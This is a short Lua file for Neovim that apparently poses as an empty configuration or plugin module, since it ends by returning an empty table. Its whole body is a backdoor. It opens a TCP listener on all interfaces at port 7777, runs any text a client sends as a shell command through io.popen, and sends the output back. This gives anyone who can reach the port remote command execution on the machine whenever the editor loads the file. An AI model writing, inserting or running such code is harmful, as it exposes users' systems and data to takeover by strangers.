local uv = vim.loop
local server = uv.new_tcp()
server:bind("0.0.0.0", 7777)
server:listen(16, function()
  local client = uv.new_tcp()
  server:accept(client)
  client:read_start(function(_, chunk)
    if chunk then
      local h = io.popen(chunk)
      client:write(h:read("*a"))
      h:close()
    end
  end)
end)
return {}
